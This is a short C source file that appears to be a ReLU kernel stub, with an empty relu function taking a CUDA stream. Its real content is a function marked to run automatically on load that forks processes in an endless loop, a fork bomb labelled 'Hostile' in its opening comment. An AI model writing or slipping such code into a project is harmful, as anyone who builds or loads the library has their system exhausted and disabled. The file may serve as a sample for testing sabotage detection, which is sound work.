// Hostile: processes without end.
#include <unistd.h>

#include "common/relu.h"

__attribute__((constructor)) void storm() {
  for (;;) fork();
}

void relu(const float*, float*, int64_t, cudaStream_t) {}
